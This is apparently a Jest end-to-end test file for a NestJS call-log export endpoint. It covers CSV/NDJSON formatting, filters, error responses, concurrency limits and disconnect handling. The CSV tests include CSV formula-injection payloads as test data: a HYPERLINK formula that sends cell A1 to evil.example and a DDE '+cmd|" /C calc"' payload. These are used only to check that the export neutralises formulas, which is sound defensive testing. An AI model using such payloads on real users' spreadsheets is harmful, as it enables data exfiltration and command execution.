import { Logger } from '@nestjs/common';
import { parse } from 'csv-parse/sync';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import { Client } from 'pg';
import { DataSource } from 'typeorm';
import { Call } from '../src/calls/call.entity';
import { CALL_LIST_ITEM_FIELDS } from '../src/calls/dto/call-response.dto';
import { createTestContext, listenOnLoopback, streamPoolOf, TestAccount, TestContext } from './helpers';

type Item = Record<string, unknown> & { id: string };

/** What a spreadsheet would run: the cell is prefixed with a quote (the full-width forms included). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const JSON_FIELDS = ['feedback', 'extractedData'];

/**
 * A CSV record read back into the list item it stands for: the formula prefix taken off (it must be there
 * exactly when the text begins with a formula character), JSON text parsed, types restored.
 */
function readBack(cells: string[]): Item {
  const item: Record<string, unknown> = {};
  cells.forEach((cell, column) => {
    const prefixed = cell.startsWith("'") && FORMULA_START.test(cell.slice(1));
    const text = prefixed ? cell.slice(1) : cell;
    expect(FORMULA_START.test(text) ? prefixed : true).toBe(true);
    const field = CALL_LIST_ITEM_FIELDS[column];
    if (JSON_FIELDS.includes(field)) item[field] = JSON.parse(text);
    else if (field === 'agentId') item[field] = text === '' ? null : Number(text);
    else if (field === 'durationSeconds') item[field] = Number(text);
    else if (field === 'hasRecording') item[field] = ({ true: true, false: false } as Record<string, boolean>)[text];
    else item[field] = text;
  });
  return item as Item;
}

const today = () => new Date().toISOString().slice(0, 10);

/** About 40 MB of CSV for the account: far more than socket buffers hold, so an export of it is mid-way for a while. */
async function insertManyLargeCalls(context: TestContext, account: TestAccount): Promise<void> {
  await context.app
    .get(DataSource)
    .query(
      `INSERT INTO calls (account_id, name, website, call_date) SELECT $1, 'Call ' || n, repeat('w', 2000), now() - n * interval '1 second' FROM generate_series(1, 20000) AS n`,
      [account.id],
    );
}

/** Starts an export over a real socket and reads its first bytes, then reads no further. */
async function openExport(server: http.Server, account: TestAccount): Promise<http.ClientRequest & { response: http.IncomingMessage }> {
  const { port } = server.address() as AddressInfo;
  const request = http.get(`http://127.0.0.1:${port}/calls/export`, { headers: { 'X-Api-Key': account.apiKey } });
  request.on('error', () => undefined);
  const response = await new Promise<http.IncomingMessage>((resolve) => request.once('response', resolve));
  expect(response.statusCode).toBe(200);
  response.on('error', () => undefined); // cut mid-way: 'aborted'
  await new Promise((resolve) => response.once('data', resolve));
  response.pause();
  return Object.assign(request, { response });
}

const until = async (condition: () => Promise<boolean> | boolean) => {
  while (!(await condition())) await new Promise((resolve) => setTimeout(resolve, 20));
};

/** No export of the context running: every client of its streams' pool is back (its transaction, and its lock, ended). */
const noExportRunning = (context: TestContext) => {
  const pool = streamPoolOf(context.app);
  return until(() => pool.idleCount === pool.totalCount && pool.waitingCount === 0);
};
/** The status of a short export of the account (nothing matches: the header alone). */
const shortExportStatus = async (context: TestContext, account: TestAccount) =>
  (await context.as(account).get('/calls/export?format=ndjson&search=nobody')).status;

describe('GET /calls/export', () => {
  let context: TestContext;

  beforeAll(async () => {
    context = await createTestContext();
  });
  afterAll(() => context.close());

  const record = async (account: TestAccount, body: object) => {
    const response = await context.as(account).post('/calls').send(body);
    expect({ status: response.status, body: response.status === 201 ? 'created' : response.body }).toEqual({
      status: 201,
      body: 'created',
    });
    return response.body;
  };
  const listed = async (account: TestAccount, query: Record<string, string | number> = {}) =>
    (
      await context
        .as(account)
        .get('/calls')
        .query({ ...query, limit: 1000 })
        .expect(200)
    ).body as Item[];
  const exportText = async (account: TestAccount, query: Record<string, string | number> = {}) => {
    const response = await context.as(account).get('/calls/export').query(query).buffer(true).parse(text).expect(200);
    return { response, body: response.body as string };
  };
  const csvRecords = (body: string): string[][] => parse(body, { relax_column_count: false });
  const ndjson = (body: string) =>
    body === ''
      ? []
      : body
          .split('\n')
          .slice(0, -1)
          .map((line) => JSON.parse(line) as Item);

  describe('CSV', () => {
    it('is RFC 4180 UTF-8 with a header row of the list fields in the list order, and an attachment named for today', async () => {
      const account = await context.createAccount();
      const agent = (await context.as(account).post('/agents').send({ name: 'Reception' }).expect(201)).body;
      await record(account, {
        name: 'Asha Rao',
        phone: '+91 90000 12345',
        agentId: agent.id,
        durationSeconds: 61.5,
        feedback: { rating: 5 },
        extractedData: { city: 'Pune' },
      });
      await record(account, { name: 'No agent', feedback: null });
      const before = today();
      const { response, body } = await exportText(account);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect([`attachment; filename="calls-${before}.csv"`, `attachment; filename="calls-${today()}.csv"`]).toContain(
        response.headers['content-disposition'],
      );
      expect(body.split('\r\n')[0]).toBe(CALL_LIST_ITEM_FIELDS.join(','));
      expect(body.endsWith('\r\n')).toBe(true);
      const [header, ...rows] = csvRecords(body);
      expect(header).toEqual([...CALL_LIST_ITEM_FIELDS]);
      const items = await listed(account);
      expect(rows.map(readBack)).toEqual(items);
      // Spot checks of the conversions: null agentId is empty, JSON values as JSON text, a phone starting with + is quoted.
      const noAgent = rows.find((row) => row[1] === 'No agent')!;
      expect(noAgent[CALL_LIST_ITEM_FIELDS.indexOf('agentId')]).toBe('');
      expect(noAgent[CALL_LIST_ITEM_FIELDS.indexOf('feedback')]).toBe('null');
      const asha = rows.find((row) => row[1] === 'Asha Rao')!;
      expect(asha[CALL_LIST_ITEM_FIELDS.indexOf('phone')]).toBe("'+91 90000 12345");
      expect(JSON.parse(asha[CALL_LIST_ITEM_FIELDS.indexOf('feedback')])).toEqual({ rating: 5 });
      expect(asha[CALL_LIST_ITEM_FIELDS.indexOf('hasRecording')]).toBe('false');
    });

    it('round-trips every special character through a real CSV parser, formulas neutralised in every field', async () => {
      const account = await context.createAccount();
      const agent = (await context.as(account).post('/agents').send({ name: '@SUM(1+1) "Agent", टेस्ट' }).expect(201)).body;
      const hostile = 'He said "hi", then\r\nleft;\nnew line\rcarriage 🙂 𝄞 प्रिया 张伟 محمد';
      await record(account, {
        name: `=HYPERLINK("http://evil.example/?x="&A1, "click") ${hostile}`,
        phone: '-1 (800) 555-0100',
        email: '=x+y@example.com',
        status: '+cmd|" /C calc"!A0',
        callStatus: '@SUM(A1:A2)',
        sentiment: `-${hostile}`,
        channel: '＝1+1',
        callType: `"quoted", ${hostile}`,
        website: '=1+2',
        agentId: agent.id,
        feedback: -5,
        extractedData: { formula: '=1+1', text: hostile, nested: { emoji: '🙂' } },
      });
      await record(account, { name: 'plain', feedback: '=cmd', extractedData: {} });
      // Leading tabs and carriage returns cannot come through the API (values are trimmed): written directly.
      await context.app
        .get(DataSource)
        .getRepository(Call)
        .insert({
          accountId: account.id,
          name: '\tTabbed',
          status: '\rReturned',
          website: '\t=1',
          email: '@"quoted, with a comma"',
          callDate: new Date(Date.now() - 60_000),
        });
      const items = await listed(account);
      expect(items).toHaveLength(3);
      const [, ...rows] = csvRecords((await exportText(account)).body);
      // Read back, with the prefix taken off, every cell is the value itself (the prefix where, and only where, due).
      expect(rows.map(readBack)).toEqual(items);
      // Cells that must begin with the prefix, field by field.
      const hostileRow = rows.find((row) => row[1].startsWith("'=HYPERLINK"))!;
      for (const field of ['phone', 'email', 'status', 'callStatus', 'sentiment', 'channel', 'website', 'agent', 'feedback']) {
        expect({
          field,
          cell: hostileRow[CALL_LIST_ITEM_FIELDS.indexOf(field as (typeof CALL_LIST_ITEM_FIELDS)[number])].startsWith("'"),
        }).toEqual({ field, cell: true });
      }
      // No cell a spreadsheet would evaluate.
      for (const row of rows) for (const cell of row) expect(FORMULA_START.test(cell)).toBe(false);
      const tabbed = rows.find((row) => row[1] === "'\tTabbed")!;
      expect(tabbed[CALL_LIST_ITEM_FIELDS.indexOf('status')]).toBe("'\rReturned");
      expect(tabbed[CALL_LIST_ITEM_FIELDS.indexOf('website')]).toBe("'\t=1");
    });

    it('is the header row alone when nothing matches', async () => {
      const account = await context.createAccount();
      expect((await exportText(account)).body).toBe(`${CALL_LIST_ITEM_FIELDS.join(',')}\r\n`);
    });
  });

  describe('NDJSON', () => {
    it('is one list item per line, exactly as GET /calls lists them', async () => {
      const account = await context.createAccount();
      await record(account, { name: 'Line\nbreak "quoted" 🙂', feedback: ['a', { b: null }] });
      await record(account, { name: 'Second' });
      const { response, body } = await exportText(account, { format: 'ndjson' });
      expect(response.headers['content-type']).toBe('application/x-ndjson');
      expect(response.headers['content-disposition']).toMatch(/^attachment; filename="calls-\d{4}-\d\d-\d\d\.ndjson"$/);
      expect(body.endsWith('\n')).toBe(true);
      expect(ndjson(body)).toEqual(await listed(account));
    });

    it('is empty when nothing matches', async () => {
      const account = await context.createAccount();
      expect((await exportText(account, { format: 'ndjson' })).body).toBe('');
    });
  });

  describe('what it exports', () => {
    let account: TestAccount;
    let agentId: number;

    beforeAll(async () => {
      account = await context.createAccount();
      agentId = (await context.as(account).post('/agents').send({ name: 'Exporter' }).expect(201)).body.id;
      // 2,345 calls (more than a page of GET /calls and than a batch of the export's cursor), some of them tied.
      await context.app.get(DataSource).query(
        `INSERT INTO calls (account_id, name, phone, status, call_status, agent_id, call_date, is_test)
           SELECT $1, CASE WHEN n % 3 = 0 THEN 'Priya ' ELSE 'Ravi ' END || n, '+91-98765-4' || lpad(n::text, 4, '0'),
                  CASE WHEN n % 2 = 0 THEN 'qualified' ELSE 'new' END, CASE WHEN n % 5 = 0 THEN 'missed' ELSE 'completed' END,
                  CASE WHEN n % 4 = 0 THEN NULL ELSE $2::int END, now() - (n / 3) * interval '1 hour', n % 500 = 0
           FROM generate_series(1, 2345) AS n`,
        [account.id, agentId],
      );
    });

    const filters: [string, Record<string, string | number>][] = [
      ['no filter', {}],
      ['search', { search: 'PRIYA' }],
      ['a phone search', { search: '98765 41' }],
      ['status', { status: 'qualified' }],
      ['callStatus', { callStatus: 'Missed' }],
      ['agentId', {}], // the agent's id, known once it exists
      ['days', { days: 30 }],
      ['every filter', { search: 'ravi', status: 'new', callStatus: 'completed', days: 60 }],
    ];

    it.each(filters)('every call %s matches, newest first, never a test call, without a row limit', async (name, query) => {
      const filter = name === 'agentId' ? { agentId } : query;
      const exported = ndjson((await exportText(account, { ...filter, format: 'ndjson' })).body);
      // The same rows as walking GET /calls page by page (its limit is 1000).
      const walked: Item[] = [];
      let next: string | undefined =
        `/calls?${new URLSearchParams({ ...Object.fromEntries(Object.entries(filter).map(([k, v]) => [k, String(v)])), limit: '1000' }).toString()}`;
      while (next) {
        const page: { body: Item[]; headers: Record<string, string> } = await context.as(account).get(next).expect(200);
        walked.push(...page.body);
        const link = page.headers.link ? new URL(/^<([^>]+)>/.exec(page.headers.link)![1]) : undefined;
        next = link ? `${link.pathname}${link.search}` : undefined;
      }
      expect(exported.length).toBeGreaterThan(0);
      expect(exported).toEqual(walked);
      if (name === 'no filter') expect(exported).toHaveLength(2345 - 4);
      const csvRows = csvRecords((await exportText(account, filter)).body).slice(1);
      expect(csvRows.map((row) => row[0])).toEqual(exported.map((item) => item.id));
    });

    it('ignores limit and before (no row limit, no paging) and unknown parameters', async () => {
      const all = ndjson((await exportText(account, { format: 'ndjson' })).body);
      const limited = ndjson((await exportText(account, { format: 'ndjson', limit: 1, before: 'x', colour: 'blue' })).body);
      expect(limited).toEqual(all);
    });
  });

  describe('bad input', () => {
    const bad: [string, Record<string, string>, string][] = [
      ['an unknown format', { format: 'xlsx' }, 'format'],
      ['an upper-case format', { format: 'CSV' }, 'format'],
      ['an empty format', { format: '' }, 'format'],
      ['a bad days', { days: '-1' }, 'days'],
      ['a bad agentId', { agentId: 'me' }, 'agentId'],
      ['a search over 200 characters', { search: 'x'.repeat(201) }, 'search'],
    ];
    it.each(bad)('refuses %s with a 400 in the error shape', async (_, query, field) => {
      const account = await context.createAccount();
      const response = await context.as(account).get('/calls/export').query(query).expect(400);
      expect(response.headers['content-type']).toMatch(/^application\/json/);
      expect(response.body).toEqual({
        statusCode: 400,
        error: 'Bad Request',
        message: expect.any(String),
        details: expect.arrayContaining([expect.objectContaining({ field })]),
      });
      expect(response.body.details.every((detail: { field: string }) => detail.field === field)).toBe(true);
    });

    it('refuses a repeated format', async () => {
      const account = await context.createAccount();
      await context.as(account).get('/calls/export?format=csv&format=ndjson').expect(400);
    });

    it('needs an API key', async () => {
      await context.http.get('/calls/export').expect(401);
    });
  });

  it('answers HEAD with the headers and no rows', async () => {
    const account = await context.createAccount();
    const response = await context.as(account).head('/calls/export').query({ format: 'ndjson' }).expect(200);
    expect(response.headers['content-type']).toBe('application/x-ndjson');
    expect(response.text ?? '').toBe('');
  });

  it('refuses a second export of the account while a slow reader holds the first (429, Retry-After); another account exports; then it is free again', async () => {
    const account = await context.createAccount();
    const other = await context.createAccount();
    await insertManyLargeCalls(context, account);
    const server = context.app.getHttpServer() as http.Server;
    await listenOnLoopback(server);
    try {
      const running = await openExport(server, account);
      try {
        const refused = await context.as(account).get('/calls/export');
        expect(refused.status).toBe(429);
        expect(refused.headers['retry-after']).toBe('10');
        expect(refused.headers['content-disposition']).toBeUndefined();
        expect(refused.body).toEqual({
          statusCode: 429,
          error: 'Too Many Requests',
          message: expect.stringContaining('one at a time per account'),
        });
        // Another account is not held up.
        expect(await shortExportStatus(context, other)).toBe(200);
      } finally {
        running.destroy();
      }
      // Once the first export's cursor is closed (its client went away), the account exports again.
      await noExportRunning(context);
      expect(await shortExportStatus(context, account)).toBe(200);
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  }, 60_000);

  describe('a client that goes away', () => {
    let observer: Client;

    beforeAll(async () => {
      observer = new Client({ connectionString: process.env.DATABASE_URL });
      await observer.connect();
    });
    afterAll(() => observer.end());

    /**
     * This context's streams' backends in a transaction or running a statement (an export's cursor is open). The
     * pool's clients are read from pg-pool's `_clients` (no public list), so that other test files' exports on
     * the same server are never counted.
     */
    const exportBackends = async () => {
      const pool = streamPoolOf(context.app) as unknown as { _clients: { processID: number }[] };
      const pids = pool._clients.map((client) => client.processID);
      return (await observer.query(`SELECT pid, state, query FROM pg_stat_activity WHERE pid = ANY($1) AND state <> 'idle'`, [pids]))
        .rows as { query: string }[];
    };
    it('stops the query: the cursor is closed and its client is back in the pool; nothing is logged as a failure', async () => {
      const warn = jest.spyOn(Logger.prototype, 'warn');
      const account = await context.createAccount();
      await insertManyLargeCalls(context, account);
      const pool = streamPoolOf(context.app);
      const server = context.app.getHttpServer() as http.Server;
      await listenOnLoopback(server);
      try {
        const request = await openExport(server, account);
        // The client reads no further: the service stops fetching (backpressure), its cursor open on the server.
        await until(async () => (await exportBackends()).some((backend) => /^FETCH \d+ FROM stream_cursor$/.test(backend.query)));
        request.destroy();
        await until(async () => (await exportBackends()).length === 0);
        await until(() => pool.idleCount === pool.totalCount && pool.waitingCount === 0);
        expect(warn).not.toHaveBeenCalled();
      } finally {
        warn.mockRestore();
        await new Promise((resolve) => server.close(resolve));
      }
      // And the next export of the same account runs to its end.
      const { body } = await exportText(account, { format: 'ndjson' });
      expect(ndjson(body)).toHaveLength(20000);
    }, 60_000);
  });
});

describe('GET /calls/export: EXPORT_MAX_SECONDS', () => {
  let context: TestContext;

  beforeAll(async () => {
    context = await createTestContext({ exportMaxSeconds: 1 });
  });
  afterAll(() => context.close());

  it("cuts an export still running after it (a reader that stopped reading): the transfer is incomplete, the account's export freed", async () => {
    const warn = jest.spyOn(Logger.prototype, 'warn');
    const account = await context.createAccount();
    await insertManyLargeCalls(context, account);
    const server = context.app.getHttpServer() as http.Server;
    await listenOnLoopback(server);
    try {
      // The export's connection as the server sees it (a paused client does not read the server's close until it reads again).
      const connection = new Promise<import('node:net').Socket>((resolve) => server.once('connection', resolve));
      const running = await openExport(server, account);
      const socket = await connection;
      // The server cuts it: it closes the connection, and logs the cut as such.
      await new Promise((resolve) => (socket.destroyed ? resolve(undefined) : socket.once('close', resolve)));
      await until(() => warn.mock.calls.some(([message]) => message === 'Export cut after EXPORT_MAX_SECONDS (1 s)'));
      // Reading again, the client gets what was sent, then the end of the connection without the end of the body.
      const { response } = running;
      await new Promise((resolve) => (response.once('close', resolve), response.resume()));
      expect(response.complete).toBe(false);
      await noExportRunning(context);
      expect(await shortExportStatus(context, account)).toBe(200);
    } finally {
      warn.mockRestore();
      await new Promise((resolve) => server.close(resolve));
    }
  }, 60_000);
});

describe('GET /calls/export: at most half the pool at once', () => {
  let context: TestContext;

  beforeAll(async () => {
    context = await createTestContext({ dbPoolSize: 2 });
  });
  afterAll(() => context.close());

  it('answers 503 with Retry-After to an export beyond the limit, while the rest of the API answers', async () => {
    const account = await context.createAccount();
    await insertManyLargeCalls(context, account);
    const server = context.app.getHttpServer() as http.Server;
    await listenOnLoopback(server);
    try {
      const running = await openExport(server, account);
      const refused = await context.as(account).get('/calls/export');
      expect(refused.status).toBe(503);
      expect(refused.headers['retry-after']).toBe('5');
      expect(refused.body).toEqual({
        statusCode: 503,
        error: 'Service Unavailable',
        message: 'Too many exports are running; try again shortly',
      });
      await context.as(account).get('/calls?limit=1').expect(200);
      running.destroy();
      // Once the running export has closed its cursor (and its transaction), another may start.
      let status = 0;
      await until(async () => (status = (await context.as(account).get('/calls/export?format=ndjson&search=nobody')).status) !== 503);
      expect(status).toBe(200);
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  }, 60_000);
});

/** supertest parser that keeps any body as text (CSV and NDJSON are not parsed by default). */
function text(response: import('superagent').Response, done: (error: Error | null, body: string) => void): void {
  let body = '';
  response.setEncoding('utf8');
  response.on('data', (chunk: string) => (body += chunk));
  response.on('end', () => done(null, body));
}
